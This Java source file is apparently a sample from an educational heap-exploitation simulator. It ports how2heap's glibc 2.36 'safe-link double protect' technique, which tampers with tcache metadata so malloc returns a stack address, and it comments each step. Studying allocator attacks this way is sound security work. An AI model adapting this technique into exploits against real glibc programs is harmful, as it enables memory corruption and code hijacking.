package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * Safe-link double protect: a port of how2heap's {@code glibc_2.36/safe_link_double_protect.c}. With
 * control of the tcache's metadata (what house-of-water gives), a pointer that goes through
 * safe-linking twice comes out plain: {@code (ptr ^ key) ^ key == ptr}, so a stack target needs no heap
 * leak to be mangled with.
 *
 * <p>What to notice:
 * a) the tcache head for 0x40 gets its low 4 bytes overwritten to point at value, a chunk holding the
 *    plain target (the stack string's address rounded down to 16); malloc(0x38) returns value and, as it
 *    pops, un-mangles value's "link" into the head: target ^ (value >> 12), the target protected once;
 * b) the head for 0x20 is pointed at the 0x40 head itself (heap+0xa0): the first malloc(0x18) returns
 *    that slot of the tcache struct and un-mangles what it holds with heap+0xa0 >> 12, the same key as
 *    value's (same page), which gives back the plain target;
 * c) the second malloc(0x18) returns the target, and a strcpy through it rewrites the stack string.
 *    The target had to be rounded down to 16 (tcache_get's alignment check): the copy starts 4 bytes
 *    before the string, where gcc -O0 put it (C: goal at 0x7fffffffe6a4, target 0x7fffffffe6a0), so the
 *    string reads "XXXXXXX HIJACKED!".
 *
 * <p>Which check stops it: none in 2.36; safe-linking assumes the attacker cannot run a pointer through
 * the same key twice. It needs control of the tcache struct (or of two links sharing a page); with
 * only a write primitive, guessing the 4 random bits of the heap's low bytes under ASLR.
 *
 * <p>Run: {@code ./mallocscope run safe-link-double-protect}
 */
@Sample(name = "safe-link-double-protect", description = "how2heap: a pointer mangled twice by safe-linking comes out plain")
public final class SafeLinkDoubleProtect implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        long slot = c.local(0x20);
        long goal = slot + 4; // char goal[] = "Replace me!"; gcc -O0 put it 4 bytes into a 16-byte slot
        c.putString(goal, "Replace me!");
        c.printf("Goal: the stack string at %p\n", goal);
        c.printf("It contains: %s\n", goal);

        long a = c.malloc(0x38);
        long b = c.malloc(0x38);
        c.printf("0x40 chunks: a %p, b %p\n", a, b);
        long cc = c.malloc(0x18);
        long d = c.malloc(0x18);
        c.printf("0x20 chunks: c %p, d %p\n", cc, d);

        long value = c.malloc(0x28);
        c.putLong(value, goal & ~0xfL); // a 16-aligned address, or tcache_get aborts
        c.printf("value: %p holds 0x%lx\n", value, c.getLong(value));

        c.free(a);
        c.free(b);
        c.printf("0x40 tcache: [%p -> %p]\n", b, a);
        c.free(cc);
        c.free(d);
        c.printf("0x20 tcache: [%p -> %p]\n", d, cc);

        long metadata = value & ~0xfffL;
        c.putInt(metadata + 0xa0, (int) (metadata + (value & 0xfff))); // the 0x40 head's low 4 bytes
        c.printf("0x40 tcache: [%p -> 0x%lx] (its head's low bytes rewritten)\n", value,
                c.getLong(value) ^ (metadata >> 12));

        c.malloc(0x38);
        c.printf("malloc(0x38) pops value: 0x40 tcache: [0x%lx], the target protected once\n",
                c.getLong(metadata + 0xa0));

        c.putInt(metadata + 0x90, (int) (metadata + 0xa0)); // the 0x20 head: the 0x40 head's slot
        c.printf("0x20 tcache: [0x%lx -> 0x%lx] (its head pointed at the 0x40 head)\n", metadata + 0xa0,
                c.getLong(value));

        long first = c.malloc(0x18);
        c.printf("First  malloc(0x18): %p\n", first);
        long vuln = c.malloc(0x18);
        c.printf("Second malloc(0x18): %p\n", vuln);

        c.strcpy(vuln, "XXXXXXXXXXX HIJACKED!");
        c.printf("The string now contains: %s\n", goal);
        c.assertTrue(!c.string(goal).equals("Replace me!"), "strcmp(goal, \"Replace me!\") != 0");
        return 0;
    }
}
